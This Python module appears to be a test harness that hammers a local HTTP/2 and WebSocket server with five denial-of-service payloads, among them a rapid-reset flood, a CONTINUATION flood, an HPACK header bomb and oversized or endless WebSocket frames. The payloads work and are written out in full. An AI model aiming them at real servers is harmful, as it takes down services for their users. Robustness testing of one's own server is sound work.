"""Clients that attack, on HTTP/2 and on WebSockets: each kind is what one sends on a connection of its own.

RFC 9113 has the frames of the one, RFC 6455 those of the other.
"""

import collections
import contextlib
import itertools
import os
import socket
import threading

HEADERS, RESET, SETTINGS, CONTINUATION = 1, 3, 4, 9
# `GET http://a/` in HPACK; a header of 270 bytes, and one of 4,000 that is meant again with each byte behind it.
REQUEST = b"\x82\x86\x84\x41\x01a"
LONG = b"\x40\x01x\x7f\x81\x0f" + b"v" * 270
BOMB = b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000 + b"\xbe" * 12000
UPGRADE = (b"GET /echo HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
           b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n")
MASK = bytes(4)


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
KINDS = (
    # Requests that are taken back at once.
    OPENING + b"".join(frame(HEADERS, 5, n, REQUEST) + frame(RESET, 0, n, bytes([0, 0, 0, 8])) for n in range(1, 2001, 2)),
    # A head without an end.
    OPENING + frame(HEADERS, 1, 1, REQUEST) + frame(CONTINUATION, 0, 1, LONG) * 2000,
    # Heads that mean a thousand times what they are.
    OPENING + b"".join(frame(HEADERS, 5, n, REQUEST + BOMB) for n in range(1, 21, 2)),
    # A message in parts of a byte, which never ends.
    UPGRADE + b"\x01\x81" + MASK + b"a" + (b"\x00\x81" + MASK + b"a") * 10000,
    # A frame that says it is longer than any may be.
    UPGRADE + b"\x82\xff" + (1 << 62).to_bytes(8, "big") + MASK + bytes(65536),
)
# A second, of all kinds together; so many stay for as long as the server has them.
PACE = 25
STAY = 100


class Attackers:
    """One attack after the other, of each kind in turn, when nothing else runs: they are to cost the server its time, not to
    take it themselves."""

    def __init__(self, port, _):
        self.port, self.begun, self.there = port, 0, collections.deque()
        self.end = threading.Event()
        self.attacking = threading.Thread(target=self.attack)
        self.attacking.start()

    def attack(self):
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
        for kind in itertools.cycle(KINDS):
            if self.end.wait(1 / PACE):
                return
            # The server may have had enough before all of it is sent.
            with contextlib.suppress(OSError):
                client = socket.create_connection(("127.0.0.1", self.port), 5)
                self.there.append(client)
                client.settimeout(1)
                client.sendall(kind)
            self.begun += 1
            if len(self.there) > STAY:
                self.there.popleft().close()

    def count(self):
        return self.begun

    def close(self):
        self.end.set()
        self.attacking.join()
        for client in self.there:
            client.close()
